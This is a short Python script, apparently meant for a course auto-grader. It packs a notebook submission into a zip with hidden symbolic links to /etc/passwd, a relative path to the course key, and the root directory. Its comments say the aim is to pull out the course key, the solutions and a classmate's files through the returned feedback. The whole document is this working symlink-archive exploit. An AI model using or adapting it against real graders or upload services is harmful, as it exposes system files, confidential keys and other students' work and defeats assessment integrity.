# tries: puts symbolic links to the course key, the solutions and a classmate into the zip
# gain: files that come back with the feedback
# only: ours

# %% zip
import io, stat, zipfile
def pack(notebook):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("seminar4.ipynb", notebook)
        for name, target in (("notes.csv", "/etc/passwd"), ("key.json", "../../../course.key"), ("run", "/")):
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return buffer.getvalue()
